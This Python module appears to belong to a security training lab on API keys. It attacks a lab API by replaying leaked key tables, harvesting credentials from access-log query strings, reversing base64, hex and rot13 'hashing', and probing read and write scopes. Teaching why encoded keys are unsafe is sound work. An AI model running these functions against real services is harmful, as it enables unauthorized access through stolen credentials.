"""Attacks on API keys: replay a leaked table, harvest keys from logs, probe scopes.

Pure functions over ``httpx`` clients and strings (lab 05-api-keys). Nothing here knows the
key format of the secure pattern: an attacker tries whatever a leak or a log gives them,
including the obvious reversible encodings of a "hashed" value.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import re
from collections.abc import Iterable
from urllib.parse import parse_qsl, urlsplit

import httpx

__all__ = [
    "REPORTS",
    "SECRET_PARAM_NAMES",
    "decodings",
    "keys_in_log",
    "log_in",
    "probe_scopes",
    "try_keys",
]

REPORTS = "/api/v1/reports"
HEADER = "X-API-Key"
#: Query parameter names under which clients commonly pass credentials.
SECRET_PARAM_NAMES = ("api_key", "apikey", "key", "token", "access_token")

_REQUEST_LINE = re.compile(r'"[A-Z]+ (\S+) HTTP/[\d.]+"')


def log_in(client: httpx.Client, email: str, password: str) -> dict[str, str]:
    """Log in as a user; returns the ``Authorization`` header to send with key requests."""
    response = client.post("/api/auth/login", json={"email": email, "password": password})
    response.raise_for_status()
    return {"Authorization": f"Bearer {response.json()['accessToken']}"}


def try_keys(client: httpx.Client, candidates: Iterable[str], path: str = REPORTS) -> list[str]:
    """The candidates that the API accepts as ``X-API-Key`` (status 200 on ``path``)."""
    working = []
    for candidate in dict.fromkeys(candidates):
        if candidate and client.get(path, headers={HEADER: candidate}).status_code == 200:
            working.append(candidate)
    return working


def keys_in_log(lines: Iterable[str]) -> list[str]:
    """Credential values found in the query strings of access-log request lines."""
    found: dict[str, None] = {}
    for line in lines:
        match = _REQUEST_LINE.search(line)
        if match is None:
            continue
        for name, value in parse_qsl(urlsplit(match.group(1)).query):
            if name.lower() in SECRET_PARAM_NAMES and value:
                found[value] = None
    return list(found)


def decodings(value: str) -> list[str]:
    """``value`` and what it decodes to if it was only encoded (base64, hex, rot13, reversed).

    Encoding is not hashing: an attacker undoes it for free.
    """
    seen: dict[str, None] = {value: None, value[::-1]: None, codecs.encode(value, "rot13"): None}
    padded = value + "=" * (-len(value) % 4)
    attempts = (
        lambda: base64.b64decode(padded),
        lambda: base64.urlsafe_b64decode(padded),
        lambda: bytes.fromhex(value),
    )
    for attempt in attempts:
        try:
            seen[attempt().decode("utf-8")] = None
        except (ValueError, binascii.Error, UnicodeDecodeError):
            continue
    # a key travels in an HTTP header: only printable ASCII can be one (a random decoding
    # that happens to be valid UTF-8, say 'ô…', cannot)
    return [v for v in seen if v and v.isascii() and v.isprintable()]


def probe_scopes(client: httpx.Client, key: str) -> dict[str, int]:
    """What one key may do: the status of a read and of a write with it."""
    headers = {HEADER: key}
    read = client.get(REPORTS, headers=headers).status_code
    write = client.post(REPORTS, headers=headers, json={"title": "probe by labkit"}).status_code
    return {f"GET {REPORTS}": read, f"POST {REPORTS}": write}
